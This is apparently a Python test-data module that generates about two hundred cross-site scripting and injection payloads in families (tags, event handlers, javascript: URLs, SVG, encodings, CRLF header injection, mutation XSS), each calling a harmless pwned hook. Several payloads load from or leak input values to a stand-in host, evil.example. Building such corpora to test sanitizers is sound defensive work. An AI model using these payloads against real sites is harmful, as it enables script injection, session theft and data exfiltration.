"""Two hundred ways to smuggle a script into a page: each, if it ran, would call window.pwned with its number.

They are built in families by their trick: a tag, an event handler, a URL, or an escape from the place where the text
stands.
"""

from itertools import chain, product

HOOK = "pwned"
_CALL = f"{HOOK}(§)"  # § stands for the payload's number

_SCRIPTS = [
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<ScRiPt\n>{_CALL}</sCrIpT\t>",
    f"<script/x>{_CALL}</script/x>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<<script>{_CALL}//<</script>",
    f"<script type=module>{_CALL}",
    f"<script\x0c>{_CALL}</script>",
    f"<script>/*--><!--*/{_CALL}</script>",
    "<script src=//evil.example/§.js></script>",
    f"<script src=data:text/javascript,{_CALL}></script>",
    f"<script nomodule defer async>{_CALL}</script",
    f"<!--><script>{_CALL}</script-->",
    f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
]
_HANDLED = ["img src=x", "video src=x", "details open", "input autofocus", "body", "p tabindex=0", "marquee"]
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"]
_HANDLERS = [f"<{tag} {event}={_CALL}>" for tag, event in product(_HANDLED, _EVENTS)] + [
    f"<img src=x\nonerror\n=\n{_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f'<img src="x" ONERROR="{_CALL}" alt="§">',
    f"<img src='x'onerror='{_CALL}'>",
    f"<img src=x onerror&#61;{_CALL}>",
    f"<img src=x on\x00error={_CALL}>",
    f"<audio><source onerror={_CALL}></audio>",
    f"<button onclick={_CALL} accesskey=s>Send</button>",
    f"<form onsubmit={_CALL}><button>Send</button></form>",
    f"<dialog open oncancel={_CALL} onclose={_CALL}>",
    f"<div popover id=x onbeforetoggle={_CALL}>",
    f"<custom-§ oncontentvisibilityautostatechange={_CALL}>",
]
_ADDRESSES = [
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"<javascript:{_CALL}>",
    f'<a href="javascript:{_CALL}">More</a>',
    f'<a href=" \x01javascript:{_CALL}">More</a>',
    f'<a href="java\tscript:{_CALL}">More</a>',
    f'<a href="java&Tab;script&colon;{_CALL}">More</a>',
    f'<a href="&#106;avascript:{_CALL}">More</a>',
    f'<a href="javascript://https://x.example/%0a{_CALL}">More</a>',
    f'<a href="vbscript:{_CALL}">More</a>',
    f'<a href="data:text/html,<script>{_CALL}</script>">More</a>',
    f'<a href=//evil.example onclick={_CALL} ping="//evil.example">More</a>',
    f'<a xlink:href="javascript:{_CALL}">More</a>',
    f"<form action=javascript:{_CALL}><input type=submit>",
    f"<button formaction=javascript:{_CALL}>Send</button>",
    f"<input type=image formaction=javascript:{_CALL} src=x>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{_CALL}</script>">',
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<base href=javascript:{_CALL}//>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_CALL}">',
    "<link rel=stylesheet href=//evil.example/§.css>",
    "<img src=https://evil.example/§.gif>",
    f'<img src="data:image/svg+xml,<svg onload={_CALL}>">',
    f"<area href=javascript:{_CALL}><map name=x>",
    f"<frameset><frame src=javascript:{_CALL}></frameset>",
    f'https://x.example/"onmouseover="{_CALL}',
    f"https://x.example/'><svg/onload={_CALL}>",
    f"www.x.example/<script>{_CALL}</script>",
    f"mailto:x@x.example?subject=<img/src=x/onerror={_CALL}>",
]
_FOREIGN = [
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}//",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href=data:,{_CALL} />",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_CALL}>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>'>",
    f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject>",
    f"<svg><style><img src=x onerror={_CALL}></style></svg>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_CALL}>x",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}§",
    "{% for x in (1,2) %}§{% endfor %}",
    "{# gone #}§",
    "${7*7}§",
    "#{7*7}§",
    f"<%= {_CALL} %>",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"[[{_CALL}]] $emit({_CALL})",
    "{0.__class__} {reference} {shop.name} %(name)s %s §",
]
_WAYS_OUT = [
    f'" onmouseover={_CALL} x="',
    f"' onmouseover={_CALL} x='",
    f"` onmouseover={_CALL} x=`",
    f'" autofocus onfocus={_CALL} "',
    f"x onfocus={_CALL} autofocus",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f'\\"><img src=x onerror={_CALL}>',
    f"&quot; onclick={_CALL} &quot;",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</option></select><script>{_CALL}</script>",
    f"</bdi></p></li></ol><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
]
_ENCODED = [
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={_CALL}&amp;gt;",
    f"&#60;img src=x onerror={_CALL}&#62;",
    f"&#x0003c;img src=x onerror={_CALL}&#x3E",
    f"%3Cimg%20src=x%20onerror={_CALL}%3E",
    f"%253Cscript%253E{_CALL}",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_CALL}\\x3e",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"\x1b$B<script>\x1b(B{_CALL}",
    f"=?utf-8?q?=3Cscript=3E{_CALL}=3C/script=3E?=",
    f"=3Cimg src=3Dx onerror=3D{_CALL}=3E",
]
_STYLES = [
    "<style>@import'//evil.example/§.css'</style>",
    "<style>*{background:url(//evil.example/§)}</style>",
    f"<div style=background:url(javascript:{_CALL})>",
    f"<div style=width:expression({_CALL})>",
    "<div style=position:fixed;inset:0>§</div>",
    f"<style>@keyframes x{{}}</style><p style=animation:x onanimationend={_CALL}>",
    "<style>input[value^=a]{background:url(//evil.example/§)}</style>",
    "<font color=red style=-moz-binding:url(//evil.example/§)>",
]
_LETTERS = [
    f"\u202e<script>{_CALL}</script>",
    f"<\u200bscript>{_CALL}</\u200bscript>",
    f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e",
    f"<\u017fcript>{_CALL}</\u017fcript>",
    f"\ufeff<img src=x onerror={_CALL}>",
    f"<img\u00a0src=x\u00a0onerror={_CALL}>",
    f"\u2028<svg\u2028onload={_CALL}>",
    f"<img src=x onerror={_CALL} \u0301>",
    f"\u02ba onmouseover={_CALL} \u02ba",
    f"\u2039script\u203a{_CALL}",
]
_MARKDOWN = [
    f"[More](javascript:{_CALL})",
    f"![More](x'onerror='{_CALL})",
    f'[x]: javascript:{_CALL} "title"',
    f"```html\n<script>{_CALL}</script>\n```",
    f"> <img src=x onerror={_CALL}>",
]
_HEADERS = [
    f"x\r\nContent-Type: text/html\r\n\r\n<script>{_CALL}</script>",
    f"x\r\nLocation: javascript:{_CALL}",
    f'x"; filename="<img src=x onerror={_CALL}>.html',
    f'"<svg onload={_CALL}>"@example.com',
    f"text/html;<img src=x onerror={_CALL}>",
]
_MUTATED = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_CALL}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_CALL}>",
    f"<template><img src=x onerror={_CALL}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={_CALL}>'>",
    f"<plaintext><img src=x onerror={_CALL}>",
    f"<textarea><p title='</textarea><img src=x onerror={_CALL}>'>",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
    f"<?xml-stylesheet href='javascript:{_CALL}'?>",
    f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->",
    f"<!DOCTYPE x [<!ENTITY x '<script>{_CALL}</script>'>]>&x;",
    "<form name=forms><input name=action id=§><input name=csrf></form>",
    "<img name=cookie id=content class=msg><a id=answer name=body>§</a>",
    f"<a href='x' title='<img src=x onerror={_CALL}>'>More</a>",
    f"<select><option><style></option></select><img src=x onerror={_CALL}></style>",
    f"<table background=javascript:{_CALL}><td background=javascript:{_CALL}>",
    f"<keygen autofocus onfocus={_CALL}><isindex action=javascript:{_CALL}>",
    f"<blockquote cite=javascript:{_CALL}><q cite=javascript:{_CALL}>x</q>",
    f"<img alt='<img src=x onerror={_CALL}>' src=cid:§>",
    f"<img src='cid:x\" onerror={_CALL} x=\"' alt=§>",
]
_FAMILIES = [
    _SCRIPTS, _HANDLERS, _ADDRESSES, _FOREIGN, _TEMPLATES, _WAYS_OUT, _ENCODED, _STYLES, _LETTERS, _MARKDOWN, _HEADERS,
    _MUTATED,
]  # fmt: skip
PAYLOADS = [text.replace("§", str(number)) for number, text in enumerate(chain(*_FAMILIES))]
